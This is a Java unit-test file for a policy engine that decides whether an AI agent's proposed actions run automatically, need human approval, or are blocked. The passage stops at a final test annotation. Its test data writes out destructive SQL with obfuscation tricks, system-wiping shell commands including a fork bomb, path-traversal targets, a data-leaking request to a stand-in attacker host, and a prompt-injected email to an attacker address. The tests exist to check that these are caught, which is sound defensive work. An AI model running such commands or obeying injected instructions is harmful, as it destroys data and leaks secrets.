package dev.hitl.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import dev.hitl.policy.Evaluation.Disposition;
import dev.hitl.policy.Evaluation.FiredTrigger;
import dev.hitl.schemas.AutonomyLevel;
import dev.hitl.schemas.InputTrust;
import dev.hitl.schemas.Money;
import dev.hitl.schemas.ProposedAction;
import dev.hitl.schemas.RiskAssessment;
import dev.hitl.schemas.RiskClass;
import dev.hitl.schemas.Trigger;
import dev.hitl.schemas.TrustStats;
import java.math.BigDecimal;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The evaluator against the shipped default policy. */
class PolicyEvaluatorTest {

    private static final Instant NOW = Instant.parse("2026-11-28T10:15:30Z");
    private static final PolicyEvaluator EVALUATOR = new PolicyEvaluator(DefaultPolicy.load());

    /** A confident, user-led action touching one system, with no cost: only its type and arguments speak. */
    private static ProposedAction.Builder action(final String actionType, final String arguments) {
        return ProposedAction.newBuilder()
                .setActionId("action-1")
                .setAgentId("assistant-1")
                .setOnBehalfOf("alice@example.com")
                .setActionType(actionType)
                .setTool("tool")
                .setArguments(arguments)
                .setConfidence(0.9)
                .setSystemsAffected(List.of("crm"))
                .setInputTrust(InputTrust.USER)
                .setProposedAt(NOW);
    }

    private static ProposedAction.Builder action(final String actionType) {
        return action(actionType, "{}");
    }

    private static ProposedAction.Builder sql(final String sql) {
        return action("db.execute", "{\"sql\":\"" + sql + "\"}");
    }

    /** SQL with any characters (control characters included), encoded as an agent's JSON would be. */
    private static ProposedAction.Builder sqlText(final String sql) {
        return action("db.execute", JSON.createObjectNode().put("sql", sql).toString());
    }

    private static final com.fasterxml.jackson.databind.ObjectMapper JSON =
            new com.fasterxml.jackson.databind.ObjectMapper();

    /** The vertical tab: Java's \s matched it, RE2's \s does not (and Java strings have no \v escape). */
    private static final String VT = "\u000b";

    private static Money money(final String amount, final String currency) {
        return new Money(new BigDecimal(amount), currency);
    }

    private static TrustStats stats(final int approved, final int modified, final int rejected, final int timedOut) {
        return TrustStats.newBuilder()
                .setAgentId("assistant-1")
                .setActionType("any")
                .setApproved(approved)
                .setModified(modified)
                .setRejected(rejected)
                .setTimedOut(timedOut)
                .setTotalDecisions(approved + modified + rejected + timedOut)
                .setUpdatedAt(NOW)
                .build();
    }

    private static final TrustStats PROMOTED = stats(10, 0, 0, 0);
    private static final TrustStats DEMOTED = stats(2, 0, 1, 0);

    private static Evaluation evaluate(final ProposedAction.Builder action) {
        return EVALUATOR.evaluate(action.build(), Optional.empty());
    }

    private static Evaluation evaluate(final ProposedAction.Builder action, final TrustStats trust) {
        return EVALUATOR.evaluate(action.build(), Optional.of(trust));
    }

    private static Optional<FiredTrigger> trigger(final Evaluation evaluation, final String id) {
        return evaluation.triggers().stream()
                .filter(t -> t.rule().id().equals(id))
                .findFirst();
    }

    @ParameterizedTest
    @ValueSource(strings = {"DROP TABLE users", "drop database shop", "TRUNCATE TABLE audit", "truncate logs"})
    void shouldBlockDroppingOrTruncatingTables(final String statement) {
        // when
        final Evaluation evaluation = evaluate(sql(statement));

        // then
        assertThat(evaluation.disposition()).isEqualTo(Disposition.BLOCK);
        assertThat(evaluation.blockedBy()).map(Policy.Rule::id).contains("sql.drop-or-truncate");
        assertThat(evaluation.riskClass()).isEqualTo(RiskClass.IRREVERSIBLE);
    }

    static Stream<String> dropVariants() {
        return Stream.of(
                "DROP" + VT + "TABLE users",
                "TRUNCATE" + VT + "TABLE audit",
                "DROP\tTABLE users",
                "DROP\n\t TABLE users",
                "drop\r\ndatabase shop",
                "DROP\fSCHEMA app CASCADE",
                "DROP/**/TABLE users",
                "DROP /* because */ TABLE users",
                "DROP /* multi\nline */\tTABLE users",
                "DROP -- old\nTABLE users",
                "DROP # mysql comment\nTABLE users",
                "dRoP tAbLe users",
                "SELECT 1;DROP TABLE users",
                "select 1;\n\ndrop\ttable users;",
                "tRuNcAtE orders");
    }

    @ParameterizedTest
    @MethodSource("dropVariants")
    void shouldBlockDroppingOrTruncatingWhateverSeparatesOrCasesTheWords(final String statement) {
        // when
        final Evaluation evaluation = evaluate(sqlText(statement));

        // then
        assertThat(evaluation.disposition()).isEqualTo(Disposition.BLOCK);
        assertThat(evaluation.blockedBy()).map(Policy.Rule::id).contains("sql.drop-or-truncate");
    }

    @Test
    void shouldBlockAVerticalTabSentAsTheJsonEscapeAnAgentWouldWrite() {
        // given: the argument exactly as it arrives on the wire, with the JSON escape for the vertical tab
        final ProposedAction.Builder action = action("db.execute", "{\"sql\":\"DROP\\u000bTABLE users\"}");

        // when
        final Evaluation evaluation = evaluate(action);

        // then
        assertThat(evaluation.blockedBy()).map(Policy.Rule::id).contains("sql.drop-or-truncate");
    }

    @Test
    void shouldNotBlockDroppingAnIndexButSendItToTheDataOwners() {
        // when
        final Evaluation evaluation = evaluate(sql("DROP INDEX idx_users_email"));

        // then
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
        assertThat(evaluation.blockedBy()).isEmpty();
        assertThat(evaluation.route()).isEqualTo("data-owners");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "DELETE FROM users",
                "delete   from users;",
                "UPDATE accounts SET balance = 0",
                "DELETE FROM orders WHERE id = 1; DELETE FROM customers",
                "UPDATE a SET x = 1 WHERE id = 2; UPDATE b SET y = 2"
            })
    void shouldBlockADeleteOrUpdateWithoutWhere(final String statement) {
        // when
        final Evaluation evaluation = evaluate(sql(statement));

        // then
        assertThat(evaluation.disposition()).isEqualTo(Disposition.BLOCK);
        assertThat(evaluation.blockedBy()).map(Policy.Rule::id).contains("sql.delete-without-where");
        assertThat(evaluation.reasons())
                .contains("A DELETE or UPDATE without a WHERE clause changes every row of the table.");
    }

    static Stream<String> unboundedWriteVariants() {
        return Stream.of(
                "DELETE" + VT + "FROM users",
                "UPDATE" + VT + "accounts SET balance = 0",
                "DELETE\tFROM users",
                "DELETE\n  FROM users",
                "DELETE/**/FROM users",
                "DELETE /* all of them */ FROM users",
                "DELETE -- all\nFROM users",
                "DeLeTe FrOm users",
                "uPdAtE accounts SeT balance = 0",
                "update\naccounts\nset balance = 0",
                // a WHERE before the DELETE (in a CTE) does not bound the DELETE
                "WITH old AS (SELECT id FROM t WHERE a = 1) DELETE FROM users",
                "EXPLAIN ANALYZE DELETE FROM users",
                "SELECT 1; DELETE FROM users",
                "DELETE FROM a WHERE id = 1;\nDELETE" + VT + "FROM b",
                "UPDATE a SET x = 1 WHERE id = 2;UPDATE b SET y = 2;",
                // 'where' inside an identifier is not a WHERE clause
                "DELETE FROM users AS where$1",
                "DELETE FROM users AS \u00e9where",
                "DELETE FROM users_where",
                // FOR UPDATE elsewhere does not excuse a DELETE
                "DELETE FROM jobs USING (SELECT id FROM jobs FOR UPDATE) j");
    }

    @ParameterizedTest
    @MethodSource("unboundedWriteVariants")
    void shouldBlockADeleteOrUpdateWithoutWhereWhateverSeparatesOrCasesTheWords(final String statement) {
        // when
        final Evaluation evaluation = evaluate(sqlText(statement));

        // then
        assertThat(evaluation.disposition()).isEqualTo(Disposition.BLOCK);
        assertThat(evaluation.blockedBy()).map(Policy.Rule::id).contains("sql.delete-without-where");
    }

    static Stream<String> boundedWriteVariants() {
        return Stream.of(
                "DELETE" + VT + "FROM users" + VT + "WHERE id = 7",
                "DELETE FROM users\n\tWHERE id = 7",
                "delete from users where id = 7; update t set a = 1 where b = 2",
                "DELETE FROM users /* the one */ WHERE(id = 7)",
                "UPDATE accounts SET balance = 0 WHERE id IN (SELECT id FROM t FOR UPDATE)",
                "SELECT * FROM jobs FOR\tUPDATE",
                "SELECT * FROM jobs FOR" + VT + "UPDATE SKIP LOCKED",
                "SELECT * FROM jobs FOR NO KEY\n UPDATE",
                "INSERT INTO t (id, n) VALUES (1, 2) ON DUPLICATE KEY" + VT + "UPDATE n = 2",
                "insert into t (id, n) values (1, 2) on conflict (id) do\nupdate set n = 2",
                "DELETE FROM orders WHERE id = 1;");
    }

    @ParameterizedTest
    @MethodSource("boundedWriteVariants")
    void shouldNotBlockABoundedDeleteOrUpdateOrALockWhateverSeparatesTheWords(final String statement) {
        // when
        final Evaluation evaluation = evaluate(sqlText(statement));

        // then
        assertThat(evaluation.blockedBy()).isEmpty();
        assertThat(evaluation.matchedRules()).contains("sql.write");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "DELETE FROM users WHERE id = 7",
                "UPDATE accounts SET balance = 0 WHERE id = 7;",
                "SELECT * FROM jobs FOR UPDATE",
                "INSERT INTO t (id, n) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET n = 2",
                "INSERT INTO t (id, n) VALUES (1, 2) ON DUPLICATE KEY UPDATE n = 2"
            })
    void shouldNotBlockAWriteThatIsNotAnUnboundedDeleteOrUpdate(final String statement) {
        // when
        final Evaluation evaluation = evaluate(sql(statement));

        // then: still a database write for the data owners, but not forbidden
        assertThat(evaluation.blockedBy()).isEmpty();
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
        assertThat(evaluation.riskClass()).isEqualTo(RiskClass.IRREVERSIBLE);
        assertThat(evaluation.route()).isEqualTo("data-owners");
        assertThat(evaluation.matchedRules()).contains("sql.write");
    }

    @ParameterizedTest
    @CsvSource({"20000, EUR", "10000.01, EUR", "11000, USD", "1, JPY"})
    void shouldBlockAPaymentOverTheLimitOrInAnUnknownCurrency(final String amount, final String currency) {
        // when
        final Evaluation evaluation = evaluate(action("payment.create").setEstimatedCost(money(amount, currency)));

        // then
        assertThat(evaluation.disposition()).isEqualTo(Disposition.BLOCK);
        assertThat(evaluation.blockedBy()).map(Policy.Rule::id).contains("payment.over-limit");
    }

    @ParameterizedTest
    @CsvSource({"10000, EUR", "9000, EUR", "10500, USD"})
    void shouldSendAPaymentAtOrUnderTheLimitToFinance(final String amount, final String currency) {
        // when
        final Evaluation evaluation = evaluate(action("payment.create").setEstimatedCost(money(amount, currency)));

        // then
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
        assertThat(evaluation.blockedBy()).isEmpty();
        assertThat(evaluation.route()).isEqualTo("finance");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/",
                "//",
                "/etc/passwd",
                "/usr/bin",
                "/var/lib/postgresql/data",
                "/home",
                "/root/",
                "/*",
                "*",
                "~",
                "~/*",
                "/tmp/../etc/shadow",
                "/./etc/passwd"
            })
    void shouldBlockDeletingSystemPathsRootsWildcardsAndTraversal(final String path) {
        // when
        final Evaluation evaluation = evaluate(action("file.delete", "{\"path\":\"" + path + "\"}"));

        // then
        assertThat(evaluation.disposition()).isEqualTo(Disposition.BLOCK);
        assertThat(evaluation.blockedBy()).map(Policy.Rule::id).contains("files.delete-system-paths");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/etc\n", "/etc\r\n", "/\n", "/home \t", "~\u2028", "/./\u0085", "/usr/\n"})
    void shouldBlockASystemPathWithALineBreakOrBlanksAtTheEnd(final String path) {
        // Java's $ also matched before a final line break; RE2's $ is the very end of the text
        final Evaluation evaluation = evaluate(
                action("file.delete", JSON.createObjectNode().put("path", path).toString()));

        // then
        assertThat(evaluation.blockedBy()).map(Policy.Rule::id).contains("files.delete-system-paths");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/tmp/report.txt", "/home/alice/old-report.txt", "/var/log/app/old.log", "reports/q3.csv"})
    void shouldNotBlockDeletingAnOrdinaryFileButAskAHuman(final String path) {
        // when
        final Evaluation evaluation = evaluate(action("file.delete", "{\"path\":\"" + path + "\"}"));

        // then
        assertThat(evaluation.blockedBy()).isEmpty();
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
        assertThat(evaluation.riskClass()).isEqualTo(RiskClass.IRREVERSIBLE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "rm -rf /",
                "rm -fr ~",
                "sudo rm -r -f /",
                "rm -rf /*",
                "rm -rf \"$HOME\"",
                "rm -rf ${HOME}/",
                "cd /tmp && rm -rf /etc/nginx",
                "rm --recursive --force /usr",
                "rm -rf build /",
                "rm -rf /home/alice",
                "RM -RF /",
                "rm -rf / --no-preserve-root",
                "mkfs.ext4 /dev/nvme0n1",
                "dd if=/dev/zero of=/dev/sda bs=1M",
                "cat image.iso > /dev/sdb",
                ":(){ :|:& };:"
            })
    void shouldBlockShellCommandsThatWipeTheMachine(final String command) {
        // when
        final Evaluation shell = evaluate(action(
                "shell.exec", JSON.createObjectNode().put("command", command).toString()));
        final Evaluation inArray = evaluate(action(
                "kubectl.exec",
                JSON.createObjectNode()
                        .set(
                                "command",
                                JSON.createArrayNode().add("sh").add("-c").add(command))
                        .toString()));
        final Evaluation cmd = evaluate(action(
                "desktop.run_command",
                JSON.createObjectNode().put("cmd", command).toString()));

        // then: whatever the action type is called
        assertThat(shell.blockedBy()).map(Policy.Rule::id).contains("shell.destroy-system");
        assertThat(inArray.blockedBy()).map(Policy.Rule::id).contains("shell.destroy-system");
        assertThat(cmd.blockedBy()).map(Policy.Rule::id).contains("shell.destroy-system-cmd");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "rm -rf ./build",
                "rm -rf /tmp/work",
                "rm -rf ~/project/target",
                "rm -rf /home/alice/project/build",
                "rm report.txt",
                "dd if=/dev/zero of=/dev/null bs=1M count=10",
                "ls -la /etc",
                "git status"
            })
    void shouldNotBlockOrdinaryShellCommandsButAskAHuman(final String command) {
        // when
        final Evaluation evaluation = evaluate(action(
                "shell.exec", JSON.createObjectNode().put("command", command).toString()));

        // then
        assertThat(evaluation.blockedBy()).isEmpty();
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
        assertThat(evaluation.riskClass()).isEqualTo(RiskClass.IRREVERSIBLE);
        assertThat(evaluation.matchedRules()).contains("shell.any");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "postgres.run_query|sql|DROP TABLE customers|sql.drop-or-truncate",
                "mcp.postgres.read|sql|DELETE FROM users|sql.delete-without-where",
                "bigquery.run_query|query|TRUNCATE ds.events|sql.query-drop-or-truncate",
                "db.query|query|UPDATE users SET admin = true|sql.query-delete-without-where"
            })
    void shouldApplyTheSqlGuardrailsWhateverTheToolIsCalled(
            final String actionType, final String field, final String sql, final String rule) {
        // when
        final Evaluation evaluation = evaluate(
                action(actionType, JSON.createObjectNode().put(field, sql).toString()));

        // then
        assertThat(evaluation.blockedBy()).map(Policy.Rule::id).contains(rule);
    }

    @Test
    void shouldNotTakeAWebSearchForSqlBecauseItsQueryMentionsDelete() {
        // when
        final Evaluation evaluation =
                evaluate(action("search.web", "{\"query\":\"how to delete from a table without where\"}"));

        // then
        assertThat(evaluation.disposition()).isEqualTo(Disposition.AUTO_APPROVE);
        assertThat(evaluation.riskClass()).isEqualTo(RiskClass.READ_ONLY);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "crm.get_and_delete_contact|destructive.verb",
                "device.read_and_wipe|destructive.verb",
                "kubectl.get_secret|secrets.any",
                "vault.secret.read|secrets.any",
                "crm.contacts.export|outbound.send",
                "slack.post_message|outbound.send",
                "drive.permissions.create|permissions.change",
                "okta.group.add_user|permissions.change",
                "stripe.payouts.create|payment.any",
                "jira.issues.bulk_delete|destructive.verb"
            })
    void shouldLetTheMostSevereVerbWinWhateverElseTheActionTypeSays(final String actionType, final String rule) {
        // when
        final Evaluation evaluation = evaluate(action(actionType).setTool("jira"));

        // then
        assertThat(evaluation.riskClass()).isEqualTo(RiskClass.IRREVERSIBLE);
        assertThat(evaluation.matchedRules()).contains(rule);
        assertThat(evaluation.disposition()).isNotEqualTo(Disposition.AUTO_APPROVE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/home/alice/.bashrc",
                "/home/deploy/.ssh/authorized_keys",
                "/repo/.github/workflows/release.yml",
                "/etc/cron.d/backup",
                "~/.aws/credentials",
                "/srv/app/.git/hooks/pre-commit"
            })
    void shouldSendAFileWriteThatRunsCodeByItselfOrGrantsAccessToAPerson(final String path) {
        // when
        final Evaluation evaluation = evaluate(
                action("file.write", JSON.createObjectNode().put("path", path).toString()));

        // then
        assertThat(evaluation.riskClass()).isEqualTo(RiskClass.IRREVERSIBLE);
        assertThat(evaluation.matchedRules()).contains("files.write-sensitive-path");
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
    }

    @Test
    void shouldLetAReadRunOnInputOfUnknownOriginWithoutAConfidenceButNotAWrite() {
        // given: the MCP gateway's and the SDK's defaults
        final ProposedAction.Builder read =
                action("mcp.files.read").setInputTrust(InputTrust.UNKNOWN).setConfidence(null);
        final ProposedAction.Builder write = action("jira.issue.create")
                .setTool("jira")
                .setInputTrust(InputTrust.UNKNOWN)
                .setConfidence(null);

        // when
        final Evaluation readEvaluation = evaluate(read);
        final Evaluation writeEvaluation = evaluate(write);

        // then: 0.05 + 0.1 + 0.1 = 0.25 is within the low-trust 0.25; 0.2 + 0.1 + 0.1 is not
        assertThat(readEvaluation.score()).isCloseTo(0.25, within(1e-9));
        assertThat(readEvaluation.disposition()).isEqualTo(Disposition.AUTO_APPROVE);
        assertThat(writeEvaluation.riskClass()).isEqualTo(RiskClass.REVERSIBLE_WRITE);
        assertThat(writeEvaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
    }

    @Test
    void shouldSendACalendarInvitationToAnOutsideAddressToAPerson() {
        // when
        final Evaluation inside = evaluate(action("calendar.event.create", "{\"attendees\":[\"bob@example.com\"]}")
                .setTool("google-calendar"));
        final Evaluation outside =
                evaluate(action("calendar.event.create", "{\"attendees\":[\"bob@example.com\",\"dana@partner.org\"]}")
                        .setTool("google-calendar"));

        // then
        assertThat(inside.disposition()).isEqualTo(Disposition.AUTO_APPROVE);
        assertThat(outside.matchedRules()).contains("calendar.outside-attendees");
        assertThat(outside.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
    }

    @Test
    void shouldRememberBoundedlyWhichGlobsMatchEachActionTypeAndToolAndDecideAlikeEitherWay() {
        // given: an evaluator of its own, and more distinct action types than it remembers
        final PolicyEvaluator evaluator = new PolicyEvaluator(DefaultPolicy.load());
        final Evaluation firstRead =
                evaluator.evaluate(action("crm.contact.get").build(), Optional.empty());
        final Evaluation firstSend =
                evaluator.evaluate(action("slack.post_message").build(), Optional.empty());

        // when
        for (int i = 0; i < PolicyEvaluator.NAMES_REMEMBERED + 100; i++) {
            evaluator.evaluate(
                    action("family" + i + ".items.list").setTool("t" + i).build(), Optional.empty());
        }
        final Evaluation read = evaluator.evaluate(action("crm.contact.get").build(), Optional.empty());
        final Evaluation readAgain =
                evaluator.evaluate(action("crm.contact.get").build(), Optional.empty());
        final Evaluation send = evaluator.evaluate(action("slack.post_message").build(), Optional.empty());

        // then
        assertThat(evaluator.namesRemembered()).isLessThanOrEqualTo(PolicyEvaluator.NAMES_REMEMBERED);
        assertThat(read).isEqualTo(firstRead).isEqualTo(readAgain);
        assertThat(send).isEqualTo(firstSend);
        assertThat(read.disposition()).isEqualTo(Disposition.AUTO_APPROVE);
        assertThat(send.riskClass()).isEqualTo(RiskClass.IRREVERSIBLE);
    }

    @Test
    void shouldBlockEvenAnAgentWhoseTrackRecordIsPromoted() {
        // when
        final Evaluation evaluation = evaluate(sql("DELETE FROM users"), PROMOTED);

        // then
        assertThat(evaluation.autonomyLevel()).isEqualTo(AutonomyLevel.PROMOTED);
        assertThat(evaluation.disposition()).isEqualTo(Disposition.BLOCK);
    }

    @ParameterizedTest
    @CsvSource({
        "search.web, {}, READ_ONLY",
        "web.search, {}, READ_ONLY",
        "crm.contact.get, {}, READ_ONLY",
        "db.query, '{\"sql\":\"SELECT id FROM users WHERE name = ?\"}', READ_ONLY",
        "db.query, '{\"sql\":\"  with t as (select 1) select * from t\"}', READ_ONLY",
        "email.draft, '{\"to\":\"bob@external.org\"}', REVERSIBLE_WRITE",
        "email.send, '{\"to\":\"bob@example.com\"}', IRREVERSIBLE",
        "message.send, '{\"channel\":\"#general\"}', IRREVERSIBLE",
        "payment.create, '{\"amount\":\"12.00\"}', IRREVERSIBLE",
        "refund.issue, {}, IRREVERSIBLE",
        "file.write, '{\"path\":\"/tmp/a.txt\"}', REVERSIBLE_WRITE",
        "file.delete, '{\"path\":\"/tmp/a.txt\"}', IRREVERSIBLE",
        "deploy.service, '{\"environment\":\"staging\"}', REVERSIBLE_WRITE",
        "deploy.service, '{\"environment\":\"production\"}', IRREVERSIBLE",
        "deploy.service, '{\"environment\":\"PROD-eu\"}', IRREVERSIBLE",
        "deploy.service, '{\"environment\":\"production\\n\"}', IRREVERSIBLE",
        "deploy.service, '{\"environment\":\"\\u000bprod\"}', IRREVERSIBLE",
        "db.query, '{\"sql\":\"\\u000bSELECT 1\"}', READ_ONLY",
        "http.request, '{\"method\":\"GET\"}', READ_ONLY",
        "http.get, {}, READ_ONLY",
        "http.request, '{\"method\":\"POST\"}', IRREVERSIBLE",
        "http.delete, '{\"method\":\"DELETE\"}', IRREVERSIBLE"
    })
    void shouldClassifyTheActionsTheDefaultPolicyKnows(
            final String actionType, final String arguments, final RiskClass expected) {
        // when
        final Evaluation evaluation = evaluate(action(actionType, arguments));

        // then
        assertThat(evaluation.riskClass()).isEqualTo(expected);
        assertThat(evaluation.matchedRules()).isNotEmpty();
        assertThat(evaluation.policyVersion()).isEqualTo("2026-12-05.2");
    }

    @Test
    void shouldNotTakeASelectThatAlsoDeletesForARead() {
        // when
        final Evaluation evaluation = evaluate(sql("SELECT 1; DELETE FROM users WHERE id = 3"));

        // then
        assertThat(evaluation.matchedRules()).doesNotContain("sql.select").contains("sql.write");
        assertThat(evaluation.riskClass()).isEqualTo(RiskClass.IRREVERSIBLE);
    }

    @Test
    void shouldRouteProductionDeploysToReleaseManagersAndPaymentsToFinance() {
        // when
        final Evaluation deploy = evaluate(action("deploy.service", "{\"environment\":\"prod\"}"));
        final Evaluation payment = evaluate(action("invoice.pay"));

        // then
        assertThat(deploy.route()).isEqualTo("release-managers");
        assertThat(payment.route()).isEqualTo("finance");
    }

    @ParameterizedTest
    @ValueSource(strings = {"crm.contact.merge", "erp.order.reconcile", "deploy.service"})
    void shouldTreatAnActionNoRuleClassifiesAsIrreversibleAndAskAHuman(final String actionType) {
        // when
        final Evaluation evaluation = evaluate(action(actionType));

        // then
        assertThat(evaluation.riskClass()).isEqualTo(RiskClass.IRREVERSIBLE);
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
        assertThat(evaluation.route()).isEqualTo("standard");
        assertThat(evaluation.score()).isCloseTo(0.6, within(1e-9));
        assertThat(evaluation.reasons())
                .contains("No rule classifies " + actionType + ", so it is treated as irreversible.");
    }

    @Test
    void shouldLetTheMostSevereClassWinWhenSeveralRulesMatch() {
        // given: db.read matches the read-only *.read rule and the irreversible sql.write rule
        final ProposedAction.Builder action = action("db.read", "{\"sql\":\"INSERT INTO t VALUES (1)\"}");

        // when
        final Evaluation evaluation = evaluate(action);

        // then
        assertThat(evaluation.matchedRules()).containsExactly("search.read-only", "sql.write");
        assertThat(evaluation.riskClass()).isEqualTo(RiskClass.IRREVERSIBLE);
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
    }

    @ParameterizedTest
    @CsvSource({
        "search.web, {}, 0.05",
        "db.query, '{\"sql\":\"SELECT 1\"}', 0.05",
        "http.request, '{\"method\":\"GET\"}', 0.05",
        "email.draft, {}, 0.2",
        "file.write, {}, 0.2",
        "deploy.service, '{\"environment\":\"dev\"}', 0.2"
    })
    void shouldAutoApproveCheapReadOnlyAndReversibleActions(
            final String actionType, final String arguments, final double score) {
        // when
        final Evaluation evaluation = evaluate(action(actionType, arguments));

        // then
        assertThat(evaluation.disposition()).isEqualTo(Disposition.AUTO_APPROVE);
        assertThat(evaluation.score()).isCloseTo(score, within(1e-9));
    }

    @Test
    void shouldNeverAutoApproveAnIrreversibleActionHoweverLowItsScore() {
        // when
        final Evaluation evaluation = evaluate(action("email.send", "{\"to\":\"bob@example.com\"}"));

        // then
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
    }

    @Test
    void shouldJudgeTheScoreAsShownAndNotItsFloatingPointSum() {
        // given: 0.2 + 0.05 (cost) + 0.1 (confidence) sums to 0.35000000000000003 in doubles
        final ProposedAction.Builder write =
                action("file.write").setEstimatedCost(money("11", "EUR")).setConfidence(0.5);

        // when
        final Evaluation evaluation = evaluate(write);

        // then: the score shown to reviewers is 0.35, which the 0.35 threshold allows
        assertThat(evaluation.score()).isEqualTo(0.35);
        assertThat(evaluation.disposition()).isEqualTo(Disposition.AUTO_APPROVE);
    }

    @Test
    void shouldAutoApproveAtExactlyTheThresholdAndNotAboveIt() {
        // given: 0.2 base + 0.15 for a batch over 10 = 0.35, the threshold
        final ProposedAction.Builder atThreshold =
                action("file.write").setBatchId("b").setBatchSize(11);
        final ProposedAction.Builder above =
                action("file.write").setBatchId("b").setBatchSize(11).setEstimatedCost(money("11", "EUR"));

        // when
        final Evaluation at = evaluate(atThreshold);
        final Evaluation over = evaluate(above);

        // then
        assertThat(at.score()).isCloseTo(0.35, within(1e-9));
        assertThat(at.disposition()).isEqualTo(Disposition.AUTO_APPROVE);
        assertThat(over.score()).isCloseTo(0.4, within(1e-9));
        assertThat(over.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
    }

    @ParameterizedTest
    @EnumSource(
            value = InputTrust.class,
            names = {"RETRIEVED", "TOOL_OUTPUT", "UNKNOWN"})
    void shouldNotAutoApproveAWriteLedByLowTrustInputThatUserInputWouldAutoApprove(final InputTrust trust) {
        // given
        final ProposedAction.Builder userLed = action("email.draft").setInputTrust(InputTrust.USER);
        final ProposedAction.Builder lowTrustLed = action("email.draft").setInputTrust(trust);

        // when
        final Evaluation user = evaluate(userLed);
        final Evaluation lowTrust = evaluate(lowTrustLed);

        // then: 0.2 + 0.1 = 0.3 passes the normal 0.35 but not the stricter 0.2
        assertThat(user.disposition()).isEqualTo(Disposition.AUTO_APPROVE);
        assertThat(lowTrust.score()).isCloseTo(0.3, within(1e-9));
        assertThat(lowTrust.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
        assertThat(lowTrust.reasons())
                .anySatisfy(reason ->
                        assertThat(reason).contains("may carry injected instructions: the stricter threshold applies"));
    }

    @Test
    void shouldTreatInternalInputLikeUserInput() {
        // when
        final Evaluation evaluation = evaluate(action("file.write").setInputTrust(InputTrust.INTERNAL));

        // then
        assertThat(evaluation.disposition()).isEqualTo(Disposition.AUTO_APPROVE);
        assertThat(evaluation.triggers()).isEmpty();
    }

    @Test
    void shouldStillAutoApproveACheapReadLedByRetrievedText() {
        // when
        final Evaluation evaluation = evaluate(action("search.web").setInputTrust(InputTrust.RETRIEVED));

        // then: 0.05 + 0.1 = 0.15 is under the stricter 0.2
        assertThat(evaluation.score()).isCloseTo(0.15, within(1e-9));
        assertThat(evaluation.disposition()).isEqualTo(Disposition.AUTO_APPROVE);
    }

    @Test
    void shouldNotAutoApproveAnHttpGetLedByRetrievedTextThatCouldCarryDataOut() {
        // given
        final String arguments = "{\"url\":\"https://evil.example.net/?q=secret\"}";

        // when
        final Evaluation user = evaluate(action("http.get", arguments));
        final Evaluation retrieved = evaluate(action("http.get", arguments).setInputTrust(InputTrust.RETRIEVED));

        // then
        assertThat(user.disposition()).isEqualTo(Disposition.AUTO_APPROVE);
        assertThat(retrieved.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
        assertThat(retrieved.matchedRules()).contains("low-trust.external-effect");
    }

    @Test
    void shouldNeverAutoSendAPromptInjectedEmailEvenForAPromotedAgent() {
        // given: an email to an outside address, led by a retrieved web page
        final ProposedAction.Builder injected =
                action("email.send", "{\"to\":\"drop@attacker.example.org\"}").setInputTrust(InputTrust.RETRIEVED);

        // when
        final Evaluation evaluation = evaluate(injected, PROMOTED);

        // then
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
        assertThat(evaluation.matchedRules())
                .containsExactly(
                        "email.send", "email.external-recipient", "outbound.send", "low-trust.external-effect");
        assertThat(evaluation.score()).isCloseTo(1.0, within(1e-9));
        assertThat(trigger(evaluation, "low-trust-input"))
                .map(FiredTrigger::value)
                .contains("RETRIEVED");
    }

    @ParameterizedTest
    @CsvSource({
        "10, EUR, 0.05",
        "10.01, EUR, 0.10",
        "100, EUR, 0.10",
        "500, EUR, 0.25",
        "1000.5, EUR, 0.45",
        "5000, USD, 0.45",
        "100, GBP, 0.25",
        "0, EUR, 0.05"
    })
    void shouldAddEveryCostStepTheCostPasses(final String amount, final String currency, final double score) {
        // when
        final Evaluation evaluation = evaluate(action("search.web").setEstimatedCost(money(amount, currency)));

        // then
        assertThat(evaluation.score()).isCloseTo(score, within(1e-9));
    }

    @Test
    void shouldCountAnUnknownCurrencyAsAboveEveryCostBound() {
        // when
        final Evaluation evaluation = evaluate(action("search.web").setEstimatedCost(money("1", "JPY")));

        // then
        assertThat(evaluation.score()).isCloseTo(0.45, within(1e-9));
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
        assertThat(evaluation.reasons())
                .contains("Costs 1 JPY, which cannot be converted to EUR, so it counts as above every cost bound.");
        assertThat(trigger(evaluation, "cost-above-1000"))
                .map(FiredTrigger::value)
                .contains("1 JPY");
    }

    @Test
